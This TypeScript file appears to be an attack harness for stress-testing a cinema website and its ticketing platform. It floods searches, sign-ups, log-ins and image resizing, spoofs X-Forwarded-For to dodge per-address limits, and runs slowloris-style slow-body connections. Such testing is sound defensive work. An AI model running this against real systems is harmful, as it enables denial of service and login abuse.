/** A process of its own that attacks: `attack-gun.ts KIND one|many SECONDS SITE PLATFORM`; prints a JSON line of the answers. */
import { connect } from 'node:net'
import autocannon, { type Request } from 'autocannon'

const [kind = '', from, seconds, site = '', platform = ''] = process.argv.slice(2)
const ADDRESSES = 65_536
/** Connections that send a byte a second. */
const SLOW = 600

const number = (below = ADDRESSES) => Math.floor(Math.random() * below)

/** From `many`, every try comes from another address, as a proxy that is trusted would say. */
function toAddress() {
  const one = number()
  return from === 'many' ? `10.7.${one >> 8}.${one & 255}` : '10.7.0.1'
}

const form = { 'content-type': 'application/x-www-form-urlencoded', origin: site }
const FILTERS = ['barn', 'norsk-tale', 'tekstet', 'originalsprak', '2d', '3d', 'atmos', 'tilrettelagt']
const pick = () => FILTERS.filter(() => number(2) === 0).join(',')
const picture = process.env.ATTACK_PICTURE

interface Try {
  method?: string
  path: string
  headers?: Record<string, string>
  body?: string
}

/** What one try of each kind is, another each time. */
const KINDS: Record<string, [string, number, () => Try]> = {
  pictures: [
    platform,
    200,
    () => ({
      path: `${picture}?w=1920&h=1080&fit=crop&crop=focalpoint&fp-x=0.${number(1e9)}${number(1e7)}&fp-y=0.${number(1e9)}`,
    }),
  ],
  posts: [site, 200, () => ({ method: 'POST', path: '/program', body: 'x=1' })],
  choices: [
    site,
    100,
    () => ({ path: `/program?dag=2026-12-${String(1 + number(28)).padStart(2, '0')}&filter=${pick()}` }),
  ],
  searches: [site, 100, () => ({ path: `/${number(2) ? 'search' : 'api/search'}?q=film${number()}` })],
  'sign-ups': [
    platform,
    200,
    () => ({
      method: 'POST',
      path: '/newsletter/subscribe',
      headers: form,
      body: `EMAIL=flom${number(1e9)}%40post.example&MARKETING_EMAIL=Y`,
    }),
  ],
  'log-ins': [
    platform,
    500,
    () => ({
      method: 'POST',
      path: '/loyalty/118/LoginDx',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ Email: `flom${number()}@post.example`, Password: 'et passord som ikke er' }),
    }),
  ],
}

async function fire() {
  const found = KINDS[kind]
  if (!found) throw new Error(`There is no attack called ${kind}`)
  const [url, overallRate, toTry] = found
  const setupRequest = (request: Request) => {
    const { headers, ...one } = toTry()
    return { ...request, ...one, headers: { ...headers, 'x-forwarded-for': toAddress() } }
  }
  const options = { url, connections: 50, duration: Number(seconds), overallRate, timeout: 20 }
  const { statusCodeStats, errors, requests } = await autocannon({ ...options, requests: [{ setupRequest }] })
  const counts = Object.fromEntries(Object.entries(statusCodeStats).map(([status, { count }]) => [status, count]))
  return { sent: requests.sent, counts, errors }
}

/** Bodies that never end, to the site and to the platform. */
async function drip() {
  const counts = { open: 0, closed: 0 }
  const sockets = Array.from({ length: SLOW }, (_, at) => {
    const { hostname, port } = new URL(at % 2 ? site : platform)
    const path = at % 2 ? '/api/revalidate' : '/loyalty/118/LoginDx'
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {}).once('close', () => (counts.closed += 1))
    socket.write(
      `POST ${path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${toAddress()}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`,
    )
    return socket
  })
  const timer = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write(' ')
  }, 1000)
  await new Promise((resolve) => setTimeout(resolve, Number(seconds) * 1000))
  clearInterval(timer)
  counts.open = sockets.filter(({ destroyed }) => !destroyed).length
  for (const socket of sockets) socket.destroy()
  return { sent: SLOW, counts, errors: 0 }
}

console.log(JSON.stringify(await (kind === 'slow-bodies' ? drip() : fire())))
